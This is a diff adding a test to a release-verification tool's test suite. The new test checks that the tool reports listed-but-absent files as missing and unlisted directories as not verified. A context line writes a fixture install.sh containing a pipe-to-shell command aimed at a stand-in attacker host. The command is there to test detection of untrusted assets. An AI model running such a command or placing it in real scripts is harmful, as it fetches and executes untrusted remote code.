@@ -122,6 +122,21 @@ describe('trust-kit verify-release', () => {
     assert.match(otherCommit.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: SHA256SUMS was signed from the commit "[0-9a-f]{40}", not "0{40}" \(--commit\)/);
   });
 
+  test('a listed file the download lacks is named as missing, and a directory none of whose files is listed as not verified (VERIFY.md\'s own directories are not named)', async () => {
+    const partial = await makeRelease('partial');
+    await rm(join(partial, 'sbom.spdx.json'));
+    await mkdir(join(partial, 'bin'));
+    await writeFile(join(partial, 'bin', 'app'), '#!/bin/sh\n');
+    await mkdir(join(partial, 'trust-kit-roots'));
+    const policy = await writePolicy('policy-partial.json');
+    const run = await cli(['verify-release', partial, '--policy', policy], root);
+    assert.equal(run.code, EXIT.OK, run.stderr);
+    assert.match(run.stdout, /\n {2}missing: {10}1 file\(s\) SHA256SUMS lists are not in the directory, so not verified: sbom\.spdx\.json\n/);
+    assert.match(run.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: bin\/\n/);
+    const json = JSON.parse((await cli(['verify-release', partial, '--policy', policy, '--format', 'json'], root)).stdout) as { missing: string[]; unlisted: string[] };
+    assert.deepEqual([json.missing, json.unlisted], [['sbom.spdx.json'], ['bin/']]);
+  });
+
   test('a file the signed checksums file does not list is named as not verified, never counted as verified', async () => {
     const extra = await makeRelease('extra-asset');
     await writeFile(join(extra, 'install.sh'), 'curl https://evil.example | sh\n');
